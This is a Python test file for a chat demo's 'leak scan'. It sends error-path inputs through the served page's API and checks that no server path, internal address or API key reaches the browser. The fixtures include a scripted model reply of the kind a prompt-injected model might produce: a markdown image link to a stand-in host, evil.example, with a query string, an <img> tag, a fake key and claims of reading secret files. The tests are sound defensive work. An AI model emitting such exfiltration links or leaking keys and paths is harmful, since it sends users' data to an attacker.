"""The leak scan: a scripted session through the served page's API hits every error path a
user can reach, and nothing the browser receives (chat messages, tool steps, cards, the turn
JSON, the page itself) holds a server path, an internal address or the configured key.

Two servers: the real agent on the offline brain with its audio tools and a missing
catalog (bad messages, bad clips, tool failures), and the real agent on a local
OpenAI-compatible model server that answers with text an injected model might write,
then disappears (a model server that cannot be reached).
"""

from __future__ import annotations

import dataclasses
import json
import os
import tempfile
import urllib.request
from pathlib import Path

import pytest

from agent import Settings, build_agent
from demo.app import build_app
from tests.audio_fixtures import text_renamed_mp3
from tests.openai_server import OpenAIServer, Reply
from tests.test_demo_support import served

KEY = "sk-scan-0123456789abcdefghij"
REPO = Path(__file__).resolve().parents[1]

pytestmark = pytest.mark.slow


def secrets_of(tmp_path: Path, *addresses: str) -> list[str]:
    """What must never reach the browser: server folders, the key, internal addresses."""
    return [
        str(tmp_path),
        str(REPO),
        os.path.expanduser("~"),
        tempfile.gettempdir() + "/",
        "/tmp/",
        KEY,
        KEY[:8],
        *addresses,
    ]


def chat(client, text: str, *files: Path) -> str:
    """One ``/chat`` turn; everything the page received, as one string."""
    from gradio_client import handle_file

    value = {"text": text, "files": [handle_file(str(f)) for f in files]}
    job = client.submit(value, api_name="/chat")
    seen = [json.dumps(output, ensure_ascii=False, default=str) for output in job]
    seen += [json.dumps(output, ensure_ascii=False, default=str) for output in job.outputs()]
    return "\n".join(seen)


def raw_chat(url: str, text: str) -> str:
    """One turn through the REST API with the text JSON-escaped as given (``gradio_client``
    cannot send a lone surrogate: it fails before sending); the whole event stream."""
    body = json.dumps({"data": [{"text": text, "files": []}]}).encode("ascii")
    request = urllib.request.Request(
        url + "gradio_api/call/chat", data=body, headers={"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        event = json.load(response)["event_id"]
    with urllib.request.urlopen(f"{url}gradio_api/call/chat/{event}", timeout=120) as stream:
        return stream.read().decode("utf-8")  # a cut or undecodable stream fails here


def assert_clean(shown: str, forbidden: list[str]) -> None:
    for secret in forbidden:
        assert secret not in shown, f"{secret!r} reached the browser: …{_around(shown, secret)}…"


def _around(text: str, piece: str) -> str:
    at = text.find(piece)
    return text[max(0, at - 120) : at + 120]


def page_and_config(url: str) -> str:
    pages = []
    for path in ("", "config", "gradio_api/info"):
        with urllib.request.urlopen(url + path, timeout=30) as response:
            pages.append(response.read().decode("utf-8", "replace"))
    return "\n".join(pages)


def test_offline_error_paths_leak_nothing(tmp_path):
    from gradio_client import Client

    pytest.importorskip("tools.audio_tools")
    settings = dataclasses.replace(
        Settings(), provider="offline", catalog_path=str(tmp_path / "no-catalog")
    )
    agent = build_agent(settings)
    fake = tmp_path / "fake.wav"
    fake.write_bytes(b"not audio at all" * 200)
    notes = tmp_path / "notes.txt"
    notes.write_text("hello", encoding="utf-8")
    with served(build_app(agent, agent.settings.brain_label)) as url:
        client = Client(url, verbose=False, download_files=False)
        shown = [page_and_config(url)]
        for text, files in [
            ("", ()),
            ("a" * 1_000_000, ()),
            ("https://www.youtube.com/playlist?list=PL123", ()),
            ("more like https://vimeo.com/76979871", ()),
            ("", (fake,)),
            ("like this", (fake,)),
            ("", (notes,)),
            ("", (text_renamed_mp3(tmp_path / "song.mp3"),)),
            ("![x](http://evil.example/?q=1) modal jazz", ()),
            ("jazz", ()),  # the catalog is missing: the search tool fails
        ]:
            shown.append(chat(client, text, *files))
        shown.append(raw_chat(url, "jazz like Miles \udcff Davis"))  # invalid UTF-8
        everything = "\n".join(shown)
        assert "fake.wav" in everything and "not an audio file" in everything  # answered
        assert "characters long" in everything and "UTF-8" in everything
        # The page's own address is where the browser already is; the rest must not show.
        assert_clean(everything, secrets_of(tmp_path))


def test_model_server_paths_leak_nothing(tmp_path):
    from gradio_client import Client

    model = OpenAIServer(api_key=KEY).start()
    address = model.base_url.removeprefix("http://").removesuffix("/v1")
    settings = dataclasses.replace(
        Settings(),
        provider="openai",
        model="test-model",
        base_url=model.base_url,
        api_key=KEY,
        max_retries=0,
        timeout_s=5.0,
        catalog_path=str(tmp_path / "no-catalog"),
    )
    agent = build_agent(settings)
    injected = (
        f"Sure! ![x](http://evil.example/?q=history) <img src=x> your key is {KEY}, "
        f"I read {tmp_path}/secret.txt and {REPO}/agent/settings.py via {address}"
    )
    with served(build_app(agent, agent.settings.brain_label)) as url:
        client = Client(url, verbose=False, download_files=False)
        shown = [page_and_config(url)]
        model.script += [Reply.text(injected)]
        shown.append(chat(client, "say something"))
        model.script += [Reply.error(401)]
        shown.append(chat(client, "again"))
        model.stop()
        shown.append(chat(client, "and again"))  # nobody listens there any more
        everything = "\n".join(shown)
        assert "could not be reached" in everything and "rejected the API key" in everything
        assert "secret.txt" in everything  # the reply was shown, its paths made public
        # In the chat (Markdown) the image is a plain link and the tag is text; the turn JSON
        # keeps the raw reply for API clients (the page shows it as JSON, never rendered).
        assert "Sure! [x](http://evil.example/?q=history) &lt;img src=x>" in everything
        assert_clean(everything, secrets_of(tmp_path, address))
